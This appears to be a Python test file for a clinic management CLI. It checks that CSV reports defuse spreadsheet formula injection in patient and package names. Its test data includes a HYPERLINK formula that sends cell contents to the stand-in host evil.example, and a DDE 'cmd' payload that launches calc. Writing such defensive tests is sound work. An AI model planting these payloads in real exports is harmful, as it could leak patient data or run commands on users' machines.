"""CSV injection: names a patient or the clinic typed reach ``clinicbot report --format csv``.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR as a formula
(``=HYPERLINK(...)`` sends the sheet's data away on a click); every such text cell is written
with a leading ``'`` and amounts stay plain numbers, on SQLite and PostgreSQL. Package usage
ends with its one summary row, the times refilled from the waitlist.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.conftest import EXAMPLE_FILE
from tests.e2e.test_cli_staff_support import Clinicbot

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
NAMES = {  # as written in the set-up file -> as the CSV must show it
    'first_name = "Leo"': (f"first_name = '{HYPERLINK}'", f"'{HYPERLINK} Chen"),
    'name = "Massage 10-pack"': ('name = "-2+3+cmd|\' /C calc\'!A0"', "'-2+3+cmd|' /C calc'!A0"),
    'name = "Physio 5-pack"': ('name = "@SUM(1+1)"', "'@SUM(1+1)"),
}


def test_report_csv_neutralises_formulas_and_keeps_amounts(
    database_url: str, tmp_path: Path
) -> None:
    text = EXAMPLE_FILE.read_text(encoding="utf-8")
    for old, (new, _) in NAMES.items():
        assert old in text
        text = text.replace(old, new, 1)
    setup = tmp_path / "clinic.toml"
    setup.write_text(text, encoding="utf-8")
    desk = Clinicbot(database_url, tmp_path)
    desk.ok("load", str(setup))
    span = ("--from", "2026-09-01", "--to", "2026-12-31", "--format", "csv")

    sales = list(csv.DictReader(io.StringIO(desk.ok("report", "package-sales", *span))))
    assert [(r["patient_name"], r["package"], r["price"], r["collected"]) for r in sales] == [
        (NAMES['first_name = "Leo"'][1], NAMES['name = "Massage 10-pack"'][1], "990.00", "330.00"),
        ("Maya Chen", NAMES['name = "Physio 5-pack"'][1], "400.00", "400.00"),
    ]
    unpaid = list(csv.DictReader(io.StringIO(desk.ok("report", "unpaid", *span))))
    leo = [row for row in unpaid if row["patient_name"] == NAMES['first_name = "Leo"'][1]]
    assert leo and all(row["outstanding"] == "330.00" for row in leo)
    assert all(row["description"].startswith("'") for row in leo), leo
    usage = list(csv.DictReader(io.StringIO(desk.ok("report", "package-usage", *span))))
    assert [(r["package"], r["uses"]) for r in usage] == [("times_refilled_from_waitlist", "0")]
    for report in (sales, unpaid, usage):  # no text cell at all starts like a formula
        for row in report:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                           for cell in row.values()), row
